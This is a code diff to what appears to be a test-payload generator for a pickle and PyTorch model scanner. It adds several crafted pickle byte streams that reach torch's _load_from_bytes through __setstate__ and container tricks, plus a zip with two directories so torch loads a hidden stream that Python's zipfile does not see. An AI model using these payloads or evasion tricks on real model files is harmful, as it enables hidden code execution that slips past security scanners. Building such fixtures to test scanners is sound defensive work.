@@ -9,6 +9,7 @@ import pickle
 import struct
 import tarfile
 import zipfile
+import zlib
 from collections.abc import Callable
 
 LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
@@ -192,6 +193,12 @@ def more_payloads(marker: str) -> dict[str, bytes]:
     load = _name("torch.storage", "_load_from_bytes")
     ordered = _name("collections", "OrderedDict") + b")R"
     code = marshal.dumps(compile(opener, "x", "exec"))
+    counter, modules = _name("collections", "Counter"), _name("torch.nn.modules.container", "ParameterDict")
+    pair = _text("__setstate__") + load + b"\x86"
+    hidden = (
+        counter + _name("collections", "OrderedDict") + b"]" + pair + b"a\x85R\x85R"
+    )  # Counter(OrderedDict([pair]))
+    tensor = _name("torch", "Tensor")
     system = _name("os", "system")
     return {
         # all of these names are harmless one by one
@@ -220,6 +227,31 @@ def more_payloads(marker: str) -> dict[str, bytes]:
         + b"stb"
         + _bytes(nested)
         + b"b.",
+        # ... and a state need not be a dictionary, nor an attribute come from a state
+        "state-of-pairs": b"\x80\x03" + modules + b")\x81]" + pair + b"ab" + _bytes(nested) + b"b.",
+        "state-of-pairs-in-a-tuple": b"\x80\x03" + modules + b")\x81" + pair + b"\x85b" + _bytes(nested) + b"b.",
+        "state-of-pairs-in-a-set": b"\x80\x04" + modules + b")\x81(" + pair + b"\x91b" + _bytes(nested) + b"b.",
+        "state-of-pairs-in-a-call": b"\x80\x03"
+        + modules
+        + b")\x81"
+        + _name("builtins", "list")
+        + pair
+        + b"\x85\x85Rb"
+        + _bytes(nested)
+        + b"b.",
+        "state-in-a-counter": b"\x80\x03" + counter + b")R" + hidden + b"b" + _bytes(nested) + b"b.",
+        "slots-in-a-counter": b"\x80\x03" + counter + b")RN" + hidden + b"\x86b" + _bytes(nested) + b"b.",
+        "attribute-by-constructor": b"\x80\x03" + modules + b"]" + pair + b"a\x85R" + _bytes(nested) + b"b.",
+        "attribute-by-list": b"\x80\x03" + modules + b"(" + pair + b"l\x85R" + _bytes(nested) + b"b.",
+        "attribute-by-item": b"\x80\x03" + modules + b")R" + pair[:-1] + b"s" + _bytes(nested) + b"b.",
+        "from-type-of-a-set": b"\x80\x04"
+        + _name("torch._tensor", "_rebuild_from_type_v2")
+        + b"("
+        + load
+        + tensor
+        + b"("
+        + _bytes(nested)
+        + b"\x91}tR.",
         "load-from-encoded": b"\x80\x02"
         + load
         + _name("_codecs", "encode")
@@ -357,6 +389,40 @@ def as_torch_zip(stream: bytes) -> bytes:
         archive.writestr("archive/version", b"3\n")
         archive.writestr("archive/byteorder", b"little")
     return buffer.getvalue()
+
+
+def as_two_directories(harmless: bytes, other: bytes, *, in_comment: bool) -> bytes:
+    """Make a zip whose zip64 locator leads to a second directory: torch loads `other`, zipfile sees `harmless`.
+
+    Python's zipfile takes the zip64 record right before the locator, or with none there the plain end record; torch's
+    reader follows the locator. `in_comment`: the locator is the comment of the first directory's last entry.
+    """
+    content = bytearray()
+
+    def directory(stream: bytes) -> bytes:
+        entries = b""
+        for name, data in ((b"m/data.pkl", stream), (b"m/version", b"3\n")):
+            sizes = struct.pack("<IIIHH", zlib.crc32(data), len(data), len(data), len(name), 0)
+            place = struct.pack("<HHHII", 0, 0, 0, 0, len(content))
+            entries += struct.pack("<4s6H", b"PK\1\2", 20, 20, 0, 0, 0, 33) + sizes + place + name
+            content.extend(struct.pack("<4s5H", b"PK\3\4", 20, 0, 0, 0, 33) + sizes + name + data)
+        return entries
+
+    def end64(entries: bytes) -> bytes:
+        """The directory and its zip64 record."""
+        return entries + struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, 2, 2, len(entries), len(content))
+
+    first = directory(harmless)
+    second = directory(other)
+    content.extend(end64(second))
+    locator = struct.pack("<4sIQI", b"PK\6\7", 0, len(content) - 56, 1)
+    if in_comment:
+        at = len(first) - len(b"m/version") - 14  # where its last entry says how long its comment is
+        first = first[:at] + struct.pack("<H", len(locator)) + first[at + 2 :]
+        end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 2, 2, len(first + locator), len(content), 0)
+        return bytes(content) + first + locator + end
+    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
+    return bytes(content) + end64(first) + locator + end
 
 
 def disguised_as_safetensors(stream: bytes) -> bytes:
